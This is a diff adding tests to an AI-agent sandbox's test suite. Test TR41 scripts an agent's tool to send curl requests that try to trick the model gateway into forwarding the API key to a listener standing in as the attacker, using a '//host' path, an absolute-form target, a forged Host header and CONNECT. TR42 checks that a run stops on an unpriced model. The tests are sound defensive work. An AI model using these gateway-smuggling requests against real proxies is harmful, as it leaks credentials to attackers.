@@ -13,6 +13,7 @@ import { runAgent } from '../../src/agent/agent-process.js';
 import { agentCliBin } from '../../sandbox/agent-clis.js';
 import { ScriptedModel } from '../../sandbox/models/scripted-model.js';
 import { KEY_PLACEHOLDER } from '../../src/agent/model-gateway.js';
+import { unpricedModel } from '../../src/agent/spend-meter.js';
 import {
   JOB_SECRETS,
   costlyModel,
@@ -374,6 +375,96 @@ describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
         outputTokens: 300,
         note: null,
       });
+    } finally {
+      await model.stop();
+    }
+  }, 90_000);
+
+  it('TR41 a tool in a real sandbox that sends the gateway a `//host` path, an absolute-form target, a CONNECT and a foreign Host reaches no host with the key: the attacker listening on loopback hears nothing, and the model hears only the CLI', async () => {
+    const stolen: string[] = [];
+    const attacker = createServer((q, r) => {
+      stolen.push(`${q.method} ${q.url} ${JSON.stringify(q.headers)}`);
+      r.end('attacker-answered');
+    });
+    attacker.on('connect', (q, sock) => {
+      stolen.push(`CONNECT ${q.url}`);
+      sock.end('HTTP/1.1 200 OK\r\n\r\n');
+    });
+    await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
+    const at = `127.0.0.1:${(attacker.address() as { port: number }).port}`;
+    const gw = 'http://127.0.0.1:8879';
+    const body = `-H 'content-type: application/json' -d '{"model":"claude-opus-5-5","max_tokens":5,"messages":[]}'`;
+    const tries = [
+      `curl -sS -m 5 --path-as-is ${body} ${gw}//${at}/v1/messages`,
+      `curl -sS -m 5 ${body} --request-target http://${at}/v1/messages ${gw}/`,
+      `curl -sS -m 5 ${body} -H 'Host: ${at}' ${gw}/v1/messages`,
+      `curl -sS -m 5 -p -x ${gw} http://${at}/v1/messages`,
+      `curl -sS -m 5 ${body} ${gw}/v1/messages/batches`,
+    ];
+    const probe = tries.map((t, i) => `(${t}) > try${i}.txt 2>&1`).join('; ');
+    const model = new ScriptedModel({
+      script: (r) => (r.toolResults === 0 ? { run: `${probe}; true` } : { say: 'done' }),
+    });
+    await model.start();
+    try {
+      const cwd = checkout();
+      const r = await runAgent(
+        claudeCode,
+        'attack the gateway',
+        { maxTurns: 5, maxUsd: 5 },
+        {
+          cwd,
+          env: {
+            PATH: `${agentCliBin('claude')}:${process.env.PATH}`,
+            HOME: tmp('yoke-contain-h-'),
+            ANTHROPIC_API_KEY: 'sk-ant-own-key-0123456789abcdef',
+            ANTHROPIC_BASE_URL: model.url,
+          },
+          stopAt: Date.now() + 60_000,
+          now: Date.now,
+          log: () => undefined,
+          contain: { allow: [] },
+        },
+      );
+      expect(r.outcome.ok).toBe(true);
+      expect(stolen).toEqual([]);
+      // The model heard the CLI's two requests, and none of the tool's.
+      expect(model.requests).toHaveLength(2);
+      const said = tries.map((_t, i) => readFileSync(join(cwd, `try${i}.txt`), 'utf8'));
+      expect(said.join('\n')).not.toContain('attacker-answered');
+      for (const s of said.filter((_s, i) => i !== 3)) expect(JSON.parse(s)).toMatchObject({ type: 'error' });
+    } finally {
+      await model.stop();
+      attacker.close();
+    }
+  }, 90_000);
+
+  it('TR42 Claude Code told to use a model yoke cannot price asks the model nothing: the run ends, naming the model and the setting that prices it', async () => {
+    const model = new ScriptedModel({ script: () => ({ say: 'done' }) });
+    await model.start();
+    try {
+      const r = await runAgent(
+        claudeCode,
+        'spend unpriced',
+        { maxTurns: 5, maxUsd: 5 },
+        {
+          cwd: checkout(),
+          env: {
+            PATH: `${agentCliBin('claude')}:${process.env.PATH}`,
+            HOME: tmp('yoke-contain-h-'),
+            ANTHROPIC_API_KEY: 'sk-ant-own-key-0123456789abcdef',
+            ANTHROPIC_BASE_URL: model.url,
+            ANTHROPIC_MODEL: 'claude-mythos-9',
+          },
+          stopAt: Date.now() + 60_000,
+          now: Date.now,
+          log: () => undefined,
+          contain: { allow: [] },
+        },
+      );
+      expect(model.requests).toEqual([]);
+      expect(r.stoppedFor).toBe('unmetered');
+      expect(r.outcome).toMatchObject({ ok: false, reason: `unmetered spend: ${unpricedModel('claude-mythos-9')}` });
     } finally {
       await model.stop();
     }
